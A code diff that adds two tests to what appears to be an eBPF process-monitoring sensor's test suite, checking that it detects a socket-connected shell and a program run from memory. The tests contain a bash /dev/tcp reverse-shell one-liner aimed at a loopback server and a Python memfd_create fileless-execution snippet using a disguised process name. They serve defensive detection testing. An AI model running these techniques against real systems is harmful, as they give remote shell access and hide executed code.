@@ -1,5 +1,7 @@
 import { execFile, execFileSync, spawn } from 'node:child_process';
+import { once } from 'node:events';
 import { existsSync, readFileSync } from 'node:fs';
+import { createServer } from 'node:net';
 import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -134,6 +136,40 @@ describe.skipIf(obstacles.ebpf !== undefined)('processes by eBPF', () => {
       .poll(change, { timeout: 5_000 })
       .toMatchObject({ before: { uid: 0, euid: 0 }, after: { euid: 65_534 } });
   }, 30_000);
+
+  it.skipIf(!existsSync('/bin/bash'))(
+    'tells with whom a shell is connected that somebody else commands',
+    async () => {
+      const { starts } = await watch('ebpf');
+      const server = createServer((socket) => socket.end('exit\n')).listen(0, '127.0.0.1');
+      await once(server, 'listening');
+      const address = server.address();
+      const port = typeof address === 'object' && address !== null ? address.port : 0;
+      const script = `exec sh >/dev/tcp/127.0.0.1/${port} 2>&1 <&1`;
+      await run('/bin/bash', ['-c', script]).catch(() => undefined);
+      server.close();
+      const shell = () => starts().find(({ process }) => process.standardStreams?.remote?.port === port)?.process;
+      await expect.poll(shell, { timeout: 5_000 }).toMatchObject({
+        arguments: ['sh'],
+        standardStreams: { input: 'socket', output: 'socket', remote: { address: '127.0.0.1', port } },
+      });
+    },
+    30_000,
+  );
+
+  it.skipIf(!existsSync('/usr/bin/python3'))(
+    'tells of a program that never was a file',
+    async () => {
+      const { starts } = await watch('ebpf');
+      const code =
+        'import os; f = os.memfd_create("holdfast-test", 0); os.write(f, open("/bin/true", "rb").read()); ' +
+        'os.execv(f"/proc/self/fd/{f}", ["innocent"])';
+      await run('/usr/bin/python3', ['-c', code]);
+      const hidden = () => starts().find(({ process }) => process.image === 'memfd:holdfast-test')?.process;
+      await expect.poll(hidden, { timeout: 5_000 }).toMatchObject({ commandLine: 'innocent', isImageDeleted: true });
+    },
+    30_000,
+  );
 
   it('has given up all rights, and ends with its reader', async () => {
     const { sensor } = await watch('ebpf');
